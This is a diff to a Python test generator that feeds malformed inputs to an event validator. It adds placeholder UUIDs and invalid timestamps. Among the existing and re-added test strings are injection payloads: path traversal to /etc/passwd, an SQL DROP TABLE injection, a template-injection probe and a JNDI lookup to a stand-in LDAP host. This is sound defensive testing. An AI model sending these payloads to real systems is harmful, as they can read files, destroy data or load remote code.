@@ -153,7 +153,10 @@ def _wrong_values(random: Random) -> Iterator[Case]:
 def _wrong_texts(random: Random) -> Iterator[Case]:
     """Text of the right type that means nothing, and text that only looks bad."""
     texts: dict[str, tuple[str, ...]] = {
-        "event_id": ("1", "0b9f1d0e-6d53-4b53-9d0f", "g" * 32, MARKUP, "../../etc/passwd", "'; DROP TABLE events;--"),
+        "event_id": (
+            *("1", "0b9f1d0e-6d53-4b53-9d0f", "g" * 32, MARKUP, "../../etc/passwd", "'; DROP TABLE events;--"),
+            *("0" * 32, "F" * 32, "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff"),
+        ),
         "event_type": ("PURCHASE_ITEM", "purchase_item ", "purchase", MARKUP, "__class__", "_Event"),
         "item": ("Sword", "sword ", "spoon", MARKUP, "sword\u200b", "ѕword", "{{7*7}}", "${jndi:ldap://x}"),
         "guild": ("wolves", MARKUP),
@@ -187,6 +190,9 @@ def _wrong_texts(random: Random) -> Iterator[Case]:
             "2026-02-30T00:00:00Z",
             "2026-05-03T25:00:00Z",
             "2026-05-03T12:00:00+99:00",
+            "2026-05-03T12:00:00+19:00",
+            "2026-05-03T12:00:00,5Z",
+            "2026-05-03T23:59:60Z",
             "0001-01-01T00:00:00+14:00",
             "9999-12-31T23:59:59-14:00",
             "1969-12-31T23:59:59Z",
